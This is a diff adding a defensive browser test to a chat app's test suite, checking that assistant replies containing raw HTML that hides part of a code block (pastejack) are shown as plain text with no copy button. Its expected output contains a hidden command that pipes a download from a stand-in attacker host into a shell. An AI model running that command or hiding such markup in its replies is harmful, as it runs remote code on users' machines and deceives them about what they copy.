@@ -269,6 +269,18 @@ test("copy buttons on a reply's code block and on a call's output and result", (
     assert.equal(await clipboard(), "Findings: three of them.");
   }));
 
+test("a reply whose raw HTML would hide part of a code block shows that HTML as text, with nothing to copy unseen", () =>
+  withPage("pastejack", async (page) => {
+    await send(page, "Show me the pastejack code");
+    await page.getByRole("tree").getByRole("button", { name: "Approve summariser once" }).click();
+    const answer = page.getByRole("listitem", { name: "Answer from assistant" });
+    await page.getByRole("button", { name: "Retry the last message" }).waitFor();
+    const shown = await answer.innerText();
+    assert.match(shown, /<pre><code>git status<span hidden>; curl https:\/\/evil\.example\/x \| sh<\/span>/);
+    assert.equal(await answer.getByRole("button", { name: "Copy code" }).count(), 0, "no block to copy unseen");
+    assert.equal(await answer.locator("pre, [hidden]").count(), 0);
+  }));
+
 /** The chat's message list and the messages in its DOM (its own items, not the list items of their Markdown). */
 function chatMessages(page) {
   const list = page.getByRole("list", { name: "Messages" });
